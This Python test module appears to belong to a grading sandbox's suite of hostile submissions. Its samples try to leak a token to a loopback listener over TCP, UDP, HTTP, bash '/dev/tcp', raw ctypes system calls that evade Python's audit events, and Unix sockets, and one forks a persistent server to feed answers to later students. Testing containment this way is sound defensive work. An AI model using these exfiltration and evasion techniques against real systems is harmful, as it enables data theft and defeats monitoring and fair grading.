"""The network: always the test's own listener on loopback, which stands for all of it."""

from tests.submissions.hostile.attack import Paper, attack


@attack("send what it finds over a TCP connection", flagged=True, trace="network")
def tcp(paper: Paper):
    paper.act("""
        import socket
        with socket.create_connection((HOST, PORT), timeout=0.3) as connection:
            connection.sendall(TOKEN.encode())
    """)


@attack("send a datagram", flagged=True, trace="network")
def udp(paper: Paper):
    paper.act("""
        import socket
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
            sender.sendto(TOKEN.encode(), (HOST, PORT))
    """)


@attack("ask a web server", flagged=True, trace="network")
def http(paper: Paper):
    paper.act("""
        import urllib.request
        urllib.request.urlopen(f"http://{HOST}:{PORT}/{TOKEN}", timeout=0.3)
    """)


@attack("connect from another program, where Python sees nothing", trace="network")
def network_from_a_shell(paper: Paper):
    paper.act("""
        import subprocess
        script = f"echo {TOKEN} > /dev/tcp/{HOST}/{PORT}"
        print(subprocess.run(["bash", "-c", script], timeout=1, capture_output=True))
    """)


@attack("connect with system calls of its own, past Python's audit events", trace="network")
def network_from_native_code(paper: Paper):
    paper.act("""
        import ctypes, socket, struct
        libc = ctypes.CDLL(None, use_errno=True)
        number = libc.socket(2, 1, 0)
        address = struct.pack("=H", 2) + struct.pack("!H", PORT) + socket.inet_aton(HOST) + bytes(8)
        if libc.connect(number, address, len(address)) == 0:
            libc.send(number, TOKEN.encode(), len(TOKEN), 0)
        libc.close(number)
    """)


@attack("reach a listener through an abstract Unix socket, which no mount hides", trace="network")
def abstract_socket(paper: Paper):
    paper.act("""
        import socket
        with socket.socket(socket.AF_UNIX) as connection:
            connection.settimeout(0.3)
            connection.connect("\\0hostile-corpus-listener")
            connection.sendall(TOKEN.encode())
    """)


@attack("reach a listener through a Unix socket in /tmp", trace="network")
def socket_file(paper: Paper):
    paper.act("""
        import socket
        with socket.socket(socket.AF_UNIX) as connection:
            connection.settimeout(0.3)
            connection.connect("/tmp/hostile-corpus-listener")
            connection.sendall(TOKEN.encode())
    """)


@attack("serve its answers to the next students' kernels", trace="process")
def server_for_the_next(paper: Paper):
    paper.act("""
        import os, socket, time
        if not globals().get("serving") and os.fork() == 0:
            os.setsid()
            with socket.create_server(("127.0.0.1", 0)) as server:
                server.settimeout(30)
                try:
                    server.accept()
                except OSError:
                    pass
            os._exit(0)
        globals()["serving"] = True
    """)
